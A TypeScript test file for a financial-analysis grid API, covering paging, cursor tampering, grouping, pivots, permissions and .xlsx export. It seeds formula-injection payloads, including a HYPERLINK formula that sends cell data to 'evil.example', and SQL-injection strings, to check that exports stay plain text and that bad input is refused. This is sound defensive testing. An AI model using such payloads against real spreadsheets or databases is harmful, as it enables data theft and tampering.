/**
 * The grid routes on the seeded PGlite (analysis fixture, plus rows whose descriptions would be formulas):
 * keyset paging, jumps, tampered cursors, groups, the streamed .xlsx read back with SheetJS, the pivot, and the
 * central-unit guard.
 */
import * as XLSX from 'xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { jsonPost, makeApp, openTestDb, signIn, type Signed, type TestApp, type TestDb } from '../testing/index.js';
import { FX_ACCOUNTS, FX_SUBJECTS, FX_TRANSACTIONS, insertAnalysisFixture, kobo, naira } from '../testing/analysisFixture.js';

const ACCOUNT = FX_ACCOUNTS[3]!; // subject C's
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+2348030000001', '-5+3', '@SUM(A1:A9)', '\tTAB=1+1', '\r=CR', "'quoted", '=1+1_x0041_'];
const EXTRA = HOSTILE.map((description, i) => ({
  id: `X-HOSTILE-${i}`,
  date: `2024-02-0${i + 1}T10:00:00.000Z`,
  description,
  inflow: `${i + 1}.50`,
}));

let db: TestDb;
let t: TestApp;
let analyst: Signed, partner: Signed;
beforeAll(async () => {
  db = await openTestDb();
  await insertAnalysisFixture(db);
  await db.query(
    `INSERT INTO statement_transactions (transaction_id, account_id, transaction_date, description, inflow, channel)
     SELECT id, $2::uuid, date, description, inflow, 'other' FROM jsonb_to_recordset($1::jsonb) AS x(id text, date timestamptz, description text, inflow numeric)`,
    [JSON.stringify(EXTRA), ACCOUNT.id],
  );
  // Calls to numbers nobody registered: their called_subscriber_name is null (a nullable sort key).
  await db.query(
    `INSERT INTO call_records (record_id, originating_number, terminating_number, cdr_ts, call_duration, call_type)
     SELECT 'X-CALL-' || n, $1, '23490000000' || (n % 3), timestamptz '2024-03-01T10:00:00Z' + n * interval '1 hour', 60 * (n % 2), 'Voice Originating'
       FROM generate_series(1, 7) AS n`,
    [FX_SUBJECTS[0]!.phone],
  );
  t = await makeApp(db);
  analyst = await signIn(t, 'analyst', 'fiu');
  partner = await signIn(t, 'admin', 'eca');
});
afterAll(async () => {
  expect(t.problems.join('\n')).toBe('');
  await t.cleanup();
  await db.close();
});

type Rec = Record<string, unknown>;
const scope = { Suspect: FX_SUBJECTS.map((s) => s.suspectid) };
const post = (path: string, body: unknown, who: Signed = analyst) => t.app.request(`/api${path}`, jsonPost(body, who.headers));
async function ok(path: string, body: unknown): Promise<Rec> {
  const res = await post(path, body);
  const json = (await res.json()) as Rec;
  expect(res.status, JSON.stringify(json)).toBe(200);
  return json;
}
const page = (query: Rec, source = 'statement', more: Rec = {}) =>
  ok(`/analysis/grid/${source}`, { scope, query, ...more }) as Promise<{ rows: Rec[]; total: number; at: number; next: string | null }>;

async function readAll(query: Rec, source = 'statement', more: Rec = {}): Promise<Rec[]> {
  const rows: Rec[] = [];
  let after: string | undefined;
  for (let guard = 0; guard < 500; guard++) {
    const p = await page({ ...query, ...(after ? { after } : {}) }, source, more);
    expect(p.at).toBe(rows.length);
    rows.push(...p.rows);
    if (!p.next) return rows;
    after = p.next;
  }
  throw new Error('paging did not end');
}

const ALL = [...FX_TRANSACTIONS.map((x) => ({ id: x.transaction_id, date: x.date, inflow: x.inflow, outflow: x.outflow, account: x.account.number, description: x.description })), ...EXTRA.map((x) => ({ ...x, outflow: '0.00', account: ACCOUNT.number }))];
const lagosWeekend = (iso: string) => [0, 6].includes(new Date(Date.parse(iso) + 3_600_000).getUTCDay());

describe('POST /api/analysis/grid/{source}', () => {
  it('pages through every row by keyset, each once, in the order asked (ties broken by the row key)', async () => {
    const rows = await readAll({ sort: [{ column: 'Inflows', desc: true }], limit: 7 });
    const expected = [...ALL].sort((a, b) => kobo(b.inflow) - kobo(a.inflow) || (a.id < b.id ? 1 : a.id > b.id ? -1 : 0)).map((r) => r.id);
    expect(rows.map((r) => r.Transaction_ID)).toEqual(expected);
    expect(new Set(rows.map((r) => r.Transaction_ID)).size).toBe(ALL.length);
  });

  it('answers the StatementRecord columns, money as exact text; the default order is newest first', async () => {
    const p = await page({ limit: 3 });
    expect(p.total).toBe(ALL.length);
    expect(Object.keys(p.rows[0]!).sort()).toEqual(['Account_Number', 'Inflows', 'Outflows', 'Transaction_Currency', 'Transaction_Date', 'Transaction_Description', 'Transaction_ID', 'Transaction_Value_Date'].sort());
    const newest = [...ALL].sort((a, b) => (a.date < b.date ? 1 : a.date > b.date ? -1 : a.id < b.id ? 1 : -1)).slice(0, 3);
    expect(p.rows.map((r) => r.Transaction_ID)).toEqual(newest.map((r) => r.id));
    const big = await page({ filter: { type: 'compare', column: 'Inflows', op: 'eq', value: '150000000.50' }, limit: 1, columns: ['Inflows'] });
    expect(big.rows[0]).toEqual({ Transaction_ID: expect.any(String), Inflows: '150000000.50' });
  });

  it('pages a nullable sort (call records by subscriber name, nulls last) by keyset exactly as one ordered read', async () => {
    const query = { sort: [{ column: 'called_subscriber_name' }, { column: 'call_duration', desc: true }] };
    const full = await page({ ...query, limit: 500 }, 'calls');
    expect(full.next).toBeNull();
    expect(full.rows.filter((r) => r.called_subscriber_name === null).length).toBe(7);
    expect(full.rows.slice(-7).every((r) => r.called_subscriber_name === null)).toBe(true);
    const paged = await readAll({ ...query, limit: 6 }, 'calls');
    expect(paged.map((r) => r.Record_ID)).toEqual(full.rows.map((r) => r.Record_ID));
    expect(paged.length).toBe(full.total);
  });

  it('jumps with at to where a full ordered read says, and the cursor goes on from there', async () => {
    const query = { sort: [{ column: 'Account_Number' }, { column: 'Transaction_Date', desc: true }] };
    const full = (await page({ ...query, limit: 500 })).rows.map((r) => r.Transaction_ID);
    const jump = await page({ ...query, at: 101, limit: 9 });
    expect(jump.at).toBe(101);
    expect(jump.rows.map((r) => r.Transaction_ID)).toEqual(full.slice(101, 110));
    const next = await page({ ...query, after: jump.next, limit: 9 });
    expect(next.at).toBe(110);
    expect(next.rows.map((r) => r.Transaction_ID)).toEqual(full.slice(110, 119));
    const past = await page({ ...query, at: 10_000 });
    expect(past).toMatchObject({ rows: [], total: full.length, next: null });
  });

  it('jumps past the middle (read from the other end) exactly where a full ordered read says, nullable keys too', async () => {
    for (const [source, query] of [
      ['statement', { sort: [{ column: 'Inflows', desc: true }] }],
      ['calls', { sort: [{ column: 'called_subscriber_name' }, { column: 'call_duration', desc: true }] }],
      ['calls', { sort: [{ column: 'called_subscriber_name', desc: true }] }],
    ] as const) {
      const full = await page({ ...query, limit: 500 }, source);
      const ids = full.rows.map((r) => r.Transaction_ID ?? r.Record_ID);
      for (const at of [Math.ceil(full.total / 2) + 1, full.total - 9, full.total - 3, full.total - 1]) {
        const jump = await page({ ...query, at, limit: 9 }, source);
        expect(jump.rows.map((r) => r.Transaction_ID ?? r.Record_ID), `${source} at ${at}`).toEqual(ids.slice(at, at + 9));
        expect(jump.next === null).toBe(at + 9 >= full.total);
        if (jump.next) {
          const next = await page({ ...query, after: jump.next, limit: 9 }, source);
          expect(next.rows.map((r) => r.Transaction_ID ?? r.Record_ID)).toEqual(ids.slice(at + 9, at + 18));
        }
      }
    }
  });

  it('refuses a tampered cursor with a 400, never a 500', async () => {
    const first = await page({ limit: 2 });
    const body = JSON.parse(Buffer.from(first.next!, 'base64url').toString()) as { s: string; v: unknown[]; n: number };
    const enc = (x: unknown) => Buffer.from(JSON.stringify(x)).toString('base64url');
    const bad = [
      'not a cursor!',
      first.next!.slice(0, -3),
      enc({ ...body, s: 'Inflows-,Transaction_ID-' }),
      enc({ ...body, v: ["2024-01-01'; DROP TABLE x; --", body.v[1]] }),
      enc({ ...body, v: ['2024-13-45T00:00:00.000000Z', body.v[1]] }),
      enc({ ...body, v: [body.v[0], null] }),
      enc({ ...body, v: [body.v[0]] }),
      enc({ ...body, n: -1 }),
      enc({ ...body, v: [{ toString: 1 }, body.v[1]] }),
      enc([1, 2]),
      enc(null),
    ];
    for (const after of bad) {
      const res = await post('/analysis/grid/statement', { scope, query: { after } });
      expect(res.status, after).toBe(400);
      expect(((await res.json()) as Rec).error).toMatch(/Invalid cursor/);
    }
    // Made for another sort: refused rather than silently mis-paged.
    const res = await post('/analysis/grid/statement', { scope, query: { after: first.next, sort: [{ column: 'Inflows' }] } });
    expect(res.status).toBe(400);
  });

  it('refuses unknown columns, sources and bad input with clear 4xx', async () => {
    for (const [path, body, status, message] of [
      ['/analysis/grid/statement', { scope, query: { sort: [{ column: 'Inflows; DROP TABLE x' }] } }, 400, 'Unknown column: Inflows; DROP TABLE x'],
      ['/analysis/grid/statement', { scope, query: { filter: { type: 'compare', column: '"x"', op: 'eq', value: 1 } } }, 400, 'Unknown column: "x"'],
      ['/analysis/grid/nothing', { scope, query: {} }, 404, 'Unknown grid: nothing'],
      ['/analysis/grid/statement', { scope: { Suspect: ['NOPE'] }, query: {} }, 404, 'Subject not found: NOPE'],
      ['/analysis/grid/statement', { scope, query: { limit: 100_000 } }, 400, ''],
      ['/analysis/grid/statement/groups', { scope, query: {}, groupBy: '__proto__' }, 400, 'Unknown column: __proto__'],
    ] as const) {
      const res = await post(path, body);
      expect(res.status, path).toBe(status);
      expect(((await res.json()) as Rec).error).toContain(message);
    }
    const huge = await post('/analysis/grid/statement', { scope, query: { search: 'x'.repeat(300 * 1024) } });
    expect(huge.status).toBe(413);
  });

  it('scopes transfers, cash and the call grid as their older calls', async () => {
    const transfers = await readAll({ limit: 100 }, 'transfers');
    const cash = await readAll({ limit: 100 }, 'cash');
    const chan = (c: string[]) => FX_TRANSACTIONS.filter((x) => c.includes(x.channel)).map((x) => x.transaction_id).sort();
    expect(transfers.map((r) => r.Transaction_ID).sort()).toEqual(chan(['transfer']));
    expect(cash.map((r) => r.Transaction_ID).sort()).toEqual(chan(['cash', 'atm']));
    const A = FX_SUBJECTS[0]!;
    const grid = await readAll({ limit: 100 }, 'calls', { scope: { Suspect: [A.id] }, direction: 'originating' });
    const older = await t.app.request(`/api/cdr/range?Suspect=${A.id}&direction=originating&limit=1000`, { headers: analyst.headers });
    const list = (await older.json()) as { results: Rec[]; count: number };
    expect(grid.map((r) => r.Record_ID).sort()).toEqual(list.results.map((r) => r.Record_ID).sort());
    expect(grid.length).toBe(list.count);
  });
});

describe('POST /api/analysis/grid/{source}/groups', () => {
  it('groups by a column with the count and exact sums of the money columns', async () => {
    const { groups } = (await ok('/analysis/grid/statement/groups', { scope, query: {}, groupBy: 'Account_Number' })) as { groups: Rec[] };
    const expected = [...new Set(ALL.map((r) => r.account))].sort().map((account) => {
      const mine = ALL.filter((r) => r.account === account);
      return {
        value: account,
        count: mine.length,
        sums: { Inflows: naira(mine.reduce((s, r) => s + kobo(r.inflow), 0)), Outflows: naira(mine.reduce((s, r) => s + kobo(r.outflow), 0)) },
      };
    });
    expect(groups).toEqual(expected);
  });
});

function readSheet(buf: ArrayBuffer) {
  const wb = XLSX.read(new Uint8Array(buf), { type: 'array', cellFormula: true, cellNF: true });
  const ws = wb.Sheets[wb.SheetNames[0]!]!;
  const cells = Object.keys(ws).filter((k) => !k.startsWith('!')).map((k) => [k, ws[k] as XLSX.CellObject] as const);
  return { wb, ws, cells, rows: XLSX.utils.sheet_to_json<unknown[]>(ws, { header: 1, raw: true }) };
}

describe('POST /api/analysis/grid/{source}/export', () => {
  it('streams exactly the filtered rows (weekends with an inflow over 5 million) into a real .xlsx', async () => {
    const filter = {
      type: 'group',
      join: 'and',
      items: [
        { type: 'weekend', column: 'Transaction_Date' },
        { type: 'compare', column: 'Inflows', op: 'gt', value: 5_000_000 },
      ],
    };
    const res = await post('/analysis/grid/statement/export', { scope, query: { filter, sort: [{ column: 'Transaction_ID' }] } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="DataGrid.xlsx"');
    const { rows, ws } = readSheet(await res.arrayBuffer());
    expect(rows[0]).toEqual(['Transaction Date', 'Value Date', 'Account Number', 'Description', 'IN-FLOW', 'OUT-FLOW', 'Currency', 'Transaction ID']);
    const expected = ALL.filter((r) => lagosWeekend(r.date) && kobo(r.inflow) > 500_000_000).sort((a, b) => (a.id < b.id ? -1 : 1));
    expect(expected.length).toBeGreaterThan(2);
    expect(rows.slice(1).map((r) => r[7])).toEqual(expected.map((r) => r.id));
    // Money is a number cell with a 2-decimal format; the date is a date cell.
    expect(rows.slice(1).map((r) => r[4])).toEqual(expected.map((r) => Number(r.inflow)));
    expect(ws['E2']).toMatchObject({ t: 'n', z: '#,##0.00' });
    expect(ws['A2']!.t).toBe('n');
    expect(String(ws['A2']!.z)).toMatch(/yyyy-mm-dd/);
  });

  it('writes texts that begin with =, +, -, @, a tab or CR as text, never as a formula, intact', async () => {
    const res = await post('/analysis/grid/statement/export', { scope, query: { filter: { type: 'compare', column: 'Transaction_ID', op: 'startsWith', value: 'X-HOSTILE-' }, sort: [{ column: 'Transaction_ID' }], columns: ['Transaction_Description'] } });
    expect(res.status).toBe(200);
    const { rows, cells } = readSheet(await res.arrayBuffer());
    expect(cells.length).toBeGreaterThan(HOSTILE.length);
    expect(cells.filter(([, c]) => c.f !== undefined)).toEqual([]);
    expect(rows.slice(1)).toEqual(HOSTILE.map((d, i) => [`X-HOSTILE-${i}`, d]));
    for (const [, c] of cells.filter(([k]) => k.startsWith('B') && k !== 'B1')) expect(c.t).toBe('s');
  });

  it('names the file per grid and exports the whole set, not a page', async () => {
    for (const [source, name] of [['cash', 'CashBasedTransactions.xlsx'], ['calledTransacted', 'StatementCDRNames.xlsx'], ['calls', 'DataGrid.xlsx']] as const) {
      const res = await post(`/analysis/grid/${source}/export`, { scope, query: { limit: 1 } });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${name}"`);
      const total = (await page({ limit: 1 }, source)).total;
      expect(readSheet(await res.arrayBuffer()).rows.length - 1).toBe(total);
    }
  });

  it('answers a bad filter with a 400 before any byte of the file', async () => {
    const res = await post('/analysis/grid/statement/export', { scope, query: { filter: { type: 'compare', column: 'Inflows', op: 'gt', value: 'lots' } } });
    expect(res.status).toBe(400);
  });
});

describe('POST /api/analysis/pivot', () => {
  const expectedCells = (rowOf: (x: (typeof FX_TRANSACTIONS)[number]) => string) => {
    const cells = new Map<string, { row: string; month: string; inflow: number; outflow: number; count: number }>();
    for (const x of FX_TRANSACTIONS) {
      const month = new Date(Date.parse(x.date) + 3_600_000).toISOString().slice(0, 7);
      const key = `${rowOf(x)}|${month}`;
      const c = cells.get(key) ?? { row: rowOf(x), month, inflow: 0, outflow: 0, count: 0 };
      c.inflow += kobo(x.inflow);
      c.outflow += kobo(x.outflow);
      c.count++;
      cells.set(key, c);
    }
    return [...cells.values()]
      .sort((a, b) => (a.row === b.row ? (a.month < b.month ? -1 : 1) : a.row < b.row ? -1 : 1))
      .map((c) => ({ ...c, inflow: naira(c.inflow), outflow: naira(c.outflow) }));
  };
  const noExtra = { type: 'compare', column: 'Transaction_ID', op: 'startsWith', value: 'FX-' };

  it('sums Inflows and Outflows by account and month, in SQL, exactly', async () => {
    const body = (await ok('/analysis/pivot', { scope, rows: 'Account_Number', filter: noExtra })) as { cells: unknown[]; truncated: boolean };
    expect(body.cells).toEqual(expectedCells((x) => x.account.number));
    expect(body.truncated).toBe(false);
  });

  it('by counterparty (the parsed name; none is one row)', async () => {
    const body = (await ok('/analysis/pivot', { scope, rows: 'Counterparty', filter: noExtra })) as { cells: unknown[] };
    expect(body.cells).toEqual(expectedCells((x) => x.counterparty_name ?? ''));
  });

  it('exports PivotTable.xlsx: rows × months', async () => {
    const res = await post('/analysis/pivot/export', { scope, rows: 'Account_Number', filter: noExtra });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="PivotTable.xlsx"');
    const { rows } = readSheet(await res.arrayBuffer());
    const cells = expectedCells((x) => x.account.number);
    const months = [...new Set(cells.map((c) => c.month))].sort();
    expect(rows[0]).toEqual(['Account Number', ...months.flatMap((m) => [`${m} IN-FLOW`, `${m} OUT-FLOW`]), 'Total IN-FLOW', 'Total OUT-FLOW', 'Count']);
    const accounts = [...new Set(cells.map((c) => c.row))].sort();
    expect(rows.slice(1).map((r) => r[0])).toEqual(accounts);
    const first = rows[1]!;
    const mine = FX_TRANSACTIONS.filter((x) => x.account.number === accounts[0]);
    expect(first[first.length - 1]).toBe(mine.length);
    expect(first[first.length - 3]).toBeCloseTo(mine.reduce((s, x) => s + kobo(x.inflow), 0) / 100, 2);
  });
});

describe('the central unit only', () => {
  it("refuses a partner organisation's user with 403 'Permission Denied' on every grid call", async () => {
    for (const [path, body] of [
      ['/analysis/grid/statement', { scope, query: {} }],
      ['/analysis/grid/calls/groups', { scope, query: {}, groupBy: 'call_type' }],
      ['/analysis/grid/statement/export', { scope, query: {} }],
      ['/analysis/pivot', { scope, rows: 'Account_Number' }],
      ['/analysis/pivot/export', { scope, rows: 'Counterparty' }],
    ] as const) {
      const res = await post(path, body, partner);
      expect(res.status, path).toBe(403);
      expect(((await res.json()) as Rec).error).toBe('Permission Denied');
    }
  });
  it('audits each read with the grid, the subjects and the accounts', async () => {
    await page({ limit: 1 });
    const r = await db.query<{ target: string; detail: { subjects: string[]; accounts: string[] } }>(
      `SELECT target, detail FROM audit_log WHERE action = 'analysis.read' AND target = 'grid/statement' ORDER BY id DESC LIMIT 1`,
    );
    expect(r.rows[0]!.detail.subjects.sort()).toEqual(FX_SUBJECTS.map((s) => s.id).sort());
    expect(r.rows[0]!.detail.accounts.length).toBe(4);
  });
});
